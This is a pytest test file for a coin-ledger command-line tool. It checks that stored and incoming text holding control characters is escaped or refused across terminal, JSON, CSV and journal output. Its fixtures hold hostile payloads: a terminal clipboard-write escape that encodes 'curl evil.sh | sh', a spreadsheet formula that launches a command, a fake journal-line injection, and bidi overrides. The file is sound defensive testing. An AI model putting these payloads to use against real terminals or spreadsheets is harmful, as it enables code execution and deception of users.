"""Control characters: refused in new input, and escaped wherever stored text goes.

A ledger is built through the library, then its stored strings are edited to
hold terminal escapes (a clipboard write, a screen clear, CR, BEL), bidi
overrides, rich markup and emoji codes, and every hash is recomputed, so the
commands read them as they would read any stored string. The commands run as
real processes, with stdout a pipe and a pseudo-terminal, and their bytes are
checked: no raw control character reaches a person, JSON keeps every string
exactly, no CSV cell starts a formula, and hledger and ledger-cli still read the
journal.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import tty
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from cli_checks import flat, snapshot
from coinpurse import Ledger, api
from coinpurse.formats.export import journal_account
from conftest import another_ledger
from ledger_tools import balances_by_account, load, rechain, save
from test_export import TOOLS, tool_balances

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the terminal's clipboard
CLEAR = "\x1b[2J"
RLO = "\u202e"  # right-to-left override
GIFT_NAME = f"Rose{CLIPBOARD}{CLEAR}\r[red]x[/red] :smile:{RLO}esoR\x7f\x9b31m"
STREAM = f"launch{CLEAR}\r\u2066{RLO}\x85"
SENDER = f"bob{CLEAR}{RLO}"
RATE_KEY = f"gift.Comet{CLEAR}\x07.coins"
ODD_KIND = f'=HYPERLINK("http://x"){CLEAR}'
ODD_SUMMARY = f"odd{CLIPBOARD}\r"
FORMULA_ACCOUNT = "=cmd|' /C calc'!A0"
LINE_BREAKING_ACCOUNT = "evil  name;\tx\n2026-01-01 fake\x1b[2J"
ODD_COMMODITY = f"C;{CLEAR} x"

# What must never reach a person raw: C0 but the newline, DEL, C1, and the bidi controls.
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own bold and colour on a terminal


def raw_controls(text: str) -> list[str]:
    return [c for c in text if (c != "\n" and ord(c) < 0x20) or 0x7F <= ord(c) <= 0x9F or c in BIDI]


def hostile_ledger(path: Path) -> Path:
    """A ledger whose stored strings hold control characters, with a valid hash chain."""
    api.buy(path, "alice", 700)
    api.buy(path, "bob", 350)
    api.gift(path, "alice", "mia", "rose", stream="launch", id="g-1")
    api.gift(path, "bob", "mia", "finger heart", count=2)
    Ledger(path).rates_set({"gift.Comet.coins": "250"}, [], None)
    document = load(path)
    buy, _, gift, second_gift, rates = document["transactions"]
    gift["details"].update(gift=GIFT_NAME, stream=STREAM)
    gift["rates"]["gift"]["name"] = GIFT_NAME
    second_gift["request"]["sender"] = SENDER
    rates["details"]["changes"][0]["key"] = RATE_KEY
    document["transactions"].append(
        {
            "id": "odd-1",
            "kind": ODD_KIND,
            "at": buy["at"],
            "request": {},
            "rates": {},
            "postings": [
                {"account": FORMULA_ACCOUNT, "commodity": "COIN", "amount": 5},
                {"account": LINE_BREAKING_ACCOUNT, "commodity": "COIN", "amount": -5},
                {"account": FORMULA_ACCOUNT, "commodity": ODD_COMMODITY, "amount": "1.5"},
                {"account": LINE_BREAKING_ACCOUNT, "commodity": ODD_COMMODITY, "amount": "-1.5"},
            ],
            "details": {"summary": ODD_SUMMARY},
            "after": {},
            "hash": "",
        }
    )
    rechain(document)
    save(path, document)
    return path


@pytest.fixture(params=["json", "toml", "sqlite"])
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return hostile_ledger(tmp_path / f"hostile.{request.param}")


def run(ledger: Path, *args: str, terminal: bool = False) -> tuple[int, str, str]:
    """``coinpurse --ledger LEDGER ARGS`` as a real process; stdout a pipe, or a pseudo-terminal."""
    command = [sys.executable, "-m", "coinpurse", "--ledger", str(ledger), *args]
    env = {**os.environ, "COLUMNS": "1000", "LINES": "50"}  # wide enough that nothing wraps
    if not terminal:
        done = subprocess.run(command, capture_output=True, env=env, timeout=120)
        return done.returncode, done.stdout.decode(), done.stderr.decode()
    controller, attached = pty.openpty()
    tty.setraw(attached)  # bytes as the program wrote them, no newline translation
    process = subprocess.Popen(command, stdout=attached, stderr=subprocess.PIPE, env=env)
    os.close(attached)
    chunks = []
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # the program closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(controller)
    _, stderr = process.communicate(timeout=120)
    return process.returncode, SGR.sub("", b"".join(chunks).decode()), stderr.decode()


REPLAY = ("gift", "alice", "mia", "rose", "--stream", "launch", "--id", "g-1")


@pytest.mark.faults
@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("history",), ["Rose\\x1b]52;c;", "\\x1b[2J\\r[red]x[/red] :smile:\\u202eesoR\\x7f\\x9b31m",
                        "gift.Comet\\x1b[2J\\x07.coins", "odd\\x1b]52;c;"]),
        (("history", "mia", "--kind", "gift"), ["Rose\\x1b]52;c;", "bob\\x1b[2J\\u202e → mia"]),
        (("gifters", "mia"), ["bob\\x1b[2J\\u202e"]),
        (REPLAY, ["already recorded", "Rose\\x1b]52;c;", "[red]x[/red] :smile:", "[stream: launch\\x1b[2J\\r\\u2066\\u202e\\x85"]),
    ],
    ids=["history", "history-gifts", "gifters", "replayed-receipt"],
)  # fmt: skip
def test_stored_control_characters_reach_people_escaped(
    hostile: Path, args: tuple[str, ...], shown: list[str], terminal: bool
) -> None:
    before = snapshot(hostile)
    code, stdout, stderr = run(hostile, *args, terminal=terminal)
    assert code == 0, stderr
    assert raw_controls(stdout) == [], stdout
    assert raw_controls(stderr) == [], stderr
    for text in shown:  # as itself: escaped, markup and emoji codes not read
        assert text in stdout, (text, stdout)
    assert snapshot(hostile) == before


@pytest.mark.faults
@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize(
    "args",
    [("history", "--json"), ("gifters", "mia", "--json"), (*REPLAY, "--json"), ("export", "--format", "json")],
    ids=["history", "gifters", "replayed-receipt", "export"],
)
def test_json_output_escapes_every_control_character_and_keeps_the_text(
    hostile: Path, args: tuple[str, ...], terminal: bool
) -> None:
    code, stdout, stderr = run(hostile, *args, terminal=terminal)
    assert code == 0, stderr
    assert raw_controls(stdout) == [], stdout
    strings = set(_strings(json.loads(stdout)))
    if args[0] == "gifters":
        assert SENDER in strings
    else:
        assert GIFT_NAME in strings and STREAM in strings


@pytest.mark.faults
@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_apply_json_of_a_replayed_op_escapes_the_stored_text(hostile: Path, tmp_path: Path, terminal: bool) -> None:
    scenario = tmp_path / "replay.json"
    op = {"kind": "gift", "sender": "alice", "recipient": "mia", "gift": "rose", "stream": "launch", "id": "g-1"}
    scenario.write_text(json.dumps({"ops": [op]}))
    before = snapshot(hostile)
    code, stdout, stderr = run(hostile, "apply", str(scenario), "--json", terminal=terminal)
    assert code == 0, stderr
    assert raw_controls(stdout) == [], stdout
    assert GIFT_NAME in set(_strings(json.loads(stdout)))
    assert snapshot(hostile) == before


def _strings(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [*node, *(s for value in node.values() for s in _strings(value))]
    if isinstance(node, list):
        return [s for value in node for s in _strings(value)]
    return []


@pytest.mark.faults
def test_no_csv_cell_can_start_a_formula_and_amounts_stay_numbers(hostile: Path) -> None:
    code, stdout, stderr = run(hostile, "export", "--format", "csv")
    assert code == 0, stderr
    assert raw_controls(stdout) == [], stdout
    header, *rows = list(csv.reader(io.StringIO(stdout)))
    assert header == ["id", "at", "kind", "account", "commodity", "amount"]
    for row in rows:
        assert len(row) == 6, row
        for cell in row[:5]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        Decimal(row[5])  # a number a spreadsheet can add, negative ones included
    assert [
        "odd-1",
        "2026-03-01T12:00:00Z",
        "'" + ODD_KIND.replace(CLEAR, "\\x1b[2J"),
        "'" + FORMULA_ACCOUNT,
        "COIN",
        "5",
    ] in rows
    assert any(row[5].startswith("-") for row in rows)


@pytest.mark.faults
def test_the_journal_keeps_its_lines_and_the_real_tools_balance_it(hostile: Path, tmp_path: Path) -> None:
    journal = tmp_path / "hostile.journal"
    code, _, stderr = run(hostile, "export", "--format", "journal", "-o", str(journal))
    assert code == 0, stderr
    text = journal.read_text()
    assert raw_controls(text) == [], text
    for line in text.splitlines():  # nothing a name holds started a line of its own
        assert line == "" or line.startswith(("2026-03-01 ", "    ", ";", "account ", "commodity ", "tag ")), line
    assert "users:evil name,\\tx\\n2026-01-01 fake\\x1b[2J" in text
    if not TOOLS:
        pytest.skip("neither hledger nor ledger is installed (Debian packages hledger, ledger; .ci/run installs them)")
    plain = ("COIN", "DIAMOND", "USD")
    expected = {
        key: Decimal(amount)
        for key, amount in balances_by_account(api.history(hostile).transactions).items()
        if amount and key[1] in plain
    }
    assert (journal_account(LINE_BREAKING_ACCOUNT), "COIN") in expected
    for tool in TOOLS:
        found = tool_balances(tool, journal)
        assert {key: amount for key, amount in found.items() if key[1] in plain} == expected, tool
        odd = {key: amount for key, amount in found.items() if key[1] not in plain}  # a symbol in quotes
        assert sorted(odd.values()) == [Decimal("-1.5"), Decimal("1.5")], (tool, odd)
        assert {account for account, _ in odd} == {
            journal_account(FORMULA_ACCOUNT),
            journal_account(LINE_BREAKING_ACCOUNT),
        }


@pytest.mark.faults
def test_verify_names_the_edited_strings_escaped(hostile: Path) -> None:
    code, stdout, stderr = run(hostile, "verify")
    assert code == 3
    assert stdout == ""
    assert raw_controls(stderr) == [], stderr
    # The rules refuse a stored name holding a control character, as they refuse a new one.
    assert "account name 'bob\\x1b[2J\\u202e' holds the control character \\x1b" in stderr, stderr
    assert "unknown_kind" in run(hostile, "verify", "--json")[1]


@pytest.mark.faults
@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("--ledger", f"led{CLEAR}ger.txt", "balance"), "led\\x1b[2Jger.txt"),
        (("apply", f"s{CLIPBOARD}.toml"), "s\\x1b]52;c;"),
        (("rates", "import", f"r{RLO}.json"), "r\\u202e.json"),
        ((f"bu{CLEAR}y", "alice", "700"), "No such command 'bu\\x1b[2Jy'"),
        (("buy", "alice", "700", f"--chan{CLIPBOARD}nel", "web"), "--chan\\x1b]52;c;"),
    ],
    ids=["ledger-path", "scenario-path", "rates-path", "usage-command", "usage-option"],
)
def test_error_messages_show_control_characters_escaped(tmp_path: Path, args: tuple[str, ...], shown: str) -> None:
    code, stdout, stderr = run(tmp_path / "l.json", *args)
    assert code == 2
    assert stdout == ""
    assert raw_controls(stderr) == [], stderr
    assert shown in stderr and stderr.count("\n") == 1, stderr


# ----- input ------------------------------------------------------------------------


def refused(cli, *args: str, code: str, says: str) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """Run ``args`` for people and with --json: exit 2, one line saying ``says``, no byte changed."""
    before = snapshot(cli.ledger)
    plain = cli(*args)
    assert plain.exit_code == 2, (plain.stdout, plain.stderr)
    assert plain.stdout == "" and plain.stderr.count("\n") == 1, plain.stderr
    assert says in flat(plain.stderr) and raw_controls(plain.stderr) == [], plain.stderr
    machine = cli(*args, "--json")
    assert machine.exit_code == 2 and machine.stdout == ""
    assert raw_controls(machine.stderr) == [], machine.stderr
    error: dict[str, str] = json.loads(machine.stderr)["error"]
    assert error["code"] == code and says in error["message"], error
    assert snapshot(cli.ledger) == before
    return error


CONTROLS = {"esc": "\x1b", "bel": "\x07", "cr": "\r", "tab": "\t", "del": "\x7f", "csi": "\x9b", "rlo": RLO,
            "lri": "\u2066", "rlm": "\u200f", "alm": "\u061c"}  # fmt: skip
ESCAPED = {"esc": "\\x1b", "bel": "\\x07", "cr": "\\r", "tab": "\\t", "del": "\\x7f", "csi": "\\x9b", "rlo": "\\u202e",
           "lri": "\\u2066", "rlm": "\\u200f", "alm": "\\u061c"}  # fmt: skip


def _command_lines(c: str) -> dict[str, tuple[str, ...]]:
    return {
        "buy account": ("buy", f"al{c}ice", "700"),
        "buy channel": ("buy", "alice", "700", "--channel", f"app{c}"),
        "buy id": ("buy", "alice", "700", "--id", f"x{c}1"),
        "gift sender": ("gift", f"{c}alice", "mia", "rose"),
        "gift recipient": ("gift", "alice", f"mia{c}", "rose"),
        "gift name": ("gift", "alice", "mia", f"ro{c}se"),
        "gift stream": ("gift", "alice", "mia", "rose", "--stream", f"live{c}"),
        "redeem account": ("redeem", f"mia{c}", "--all"),
        "balance account": ("balance", f"alice{c}"),
        "history account": ("history", f"alice{c}"),
        "gifters account": ("gifters", f"mia{c}"),
        "rates key": ("rates", "set", f"gift.Ro{c}se.coins", "2"),
        "rates new gift": ("rates", "set", f"gift.Co{c}met.coins", "2"),
        "rates removal": ("rates", "set", "--remove", f"gift.Ro{c}se"),
    }


# Each field with another control character, all of them in turn.
FIELD_CONTROLS = [(field, list(CONTROLS)[n % len(CONTROLS)]) for n, field in enumerate(_command_lines(""))]


@pytest.mark.parametrize(("field", "control"), FIELD_CONTROLS)
def test_a_control_character_in_a_command_line_name_is_refused_showing_it(cli, field: str, control: str) -> None:
    assert cli("buy", "alice", "700").exit_code == 0
    args = _command_lines(CONTROLS[control])[field]
    refused(cli, *args, code="control_character", says=f"holds the control character {ESCAPED[control]}")


@pytest.mark.faults
def test_a_control_character_on_the_command_line_is_refused_in_one_escaped_line(tmp_path: Path) -> None:
    ledger = tmp_path / "l.json"
    assert run(ledger, "buy", "alice", "700")[0] == 0
    before = ledger.read_bytes()
    for field, control in FIELD_CONTROLS:
        args = _command_lines(CONTROLS[control])[field]
        code, stdout, stderr = run(ledger, *args)
        assert code == 2, (args, stderr)
        assert stdout == ""
        assert raw_controls(stderr) == [] and stderr.count("\n") == 1, stderr
        assert f"holds the control character {ESCAPED[control]}" in stderr, (args, stderr)
        assert ledger.read_bytes() == before


SCENARIO_OPS = {
    "account": {"kind": "buy", "account": "al\x1bice", "coins": 700},
    "channel": {"kind": "buy", "account": "alice", "coins": 700, "channel": "web\x1b"},
    "id": {"kind": "buy", "account": "alice", "coins": 700, "id": "a\x1b"},
    "gift name": {"kind": "gift", "sender": "alice", "recipient": "mia", "gift": "Ro\x1bse"},
    "stream": {"kind": "gift", "sender": "alice", "recipient": "mia", "gift": "Rose", "stream": "x\x1b"},
    "rate key": {"kind": "rates", "set": {"gift.Ro\x1bse.coins": 2}},
    "removed key": {"kind": "rates", "remove": ["gift.Ro\x1bse"]},
}


@pytest.mark.parametrize("suffix", ["json", "toml"])
@pytest.mark.parametrize("field", list(SCENARIO_OPS))
def test_a_control_character_in_a_scenario_is_refused_naming_its_line(
    cli, tmp_path: Path, field: str, suffix: str
) -> None:
    import tomli_w

    assert cli("buy", "alice", "700").exit_code == 0
    document = {"ops": [{"kind": "buy", "account": "alice", "coins": 70}, SCENARIO_OPS[field]]}
    scenario = tmp_path / f"s.{suffix}"
    scenario.write_text(tomli_w.dumps(document) if suffix == "toml" else json.dumps(document, indent=1))
    error = refused(cli, "apply", str(scenario), code="control_character", says="holds the control character \\x1b")
    assert error["message"].startswith(f"{scenario}:") and "op 2" in error["message"]


@pytest.mark.parametrize("where", ["gift", "channel"])
@pytest.mark.parametrize("command", ["import", "init"])
def test_a_control_character_in_a_rates_file_is_refused_naming_its_line(
    cli, tmp_path: Path, where: str, command: str
) -> None:
    rates = tmp_path / "rates.json"
    assert cli("rates", "export", str(rates)).exit_code == 0
    data = json.loads(rates.read_text())
    if where == "gift":
        data["gifts"][3]["name"] = f"Ice{RLO}Cream"
    else:
        data["channels"][f"we{RLO}b"] = data["channels"].pop("web")
    rates.write_text(json.dumps(data, indent=2))
    args = ("rates", "import", str(rates)) if command == "import" else ("init", "--rates", str(rates))
    if command == "init":
        cli.ledger = another_ledger(cli.ledger, tmp_path, "new")
    error = refused(cli, *args, code="invalid_rates", says="holds the control character \\u202e")
    assert re.match(rf"{re.escape(str(rates))}:\d+: ", error["message"]), error["message"]


def test_markup_and_emoji_codes_in_a_gift_name_print_as_themselves(cli) -> None:
    """Printable names a catalog may hold: rich reads neither ``[red]`` nor ``:smile:`` from them."""
    for name in ("[red]x[/red]", ":smile:"):
        assert cli("rates", "set", f"gift.{name}.coins", "1").exit_code == 0
    assert cli("buy", "alice", "700").exit_code == 0
    for name in ("[red]x[/red]", ":smile:"):
        receipt = cli("gift", "alice", "mia", name, "--stream", f"{name} live")
        assert receipt.exit_code == 0, receipt.output
        assert f"{name}: 1 coin from alice" in receipt.stdout and f"[stream: {name} live]" in receipt.stdout
    shown = cli("history", "--kind", "gift").stdout
    assert "[red]x[/red]" in shown and ":smile:" in shown and "😄" not in shown
    assert "gift.:smile:.coins" in cli("history", "--kind", "rates").stdout
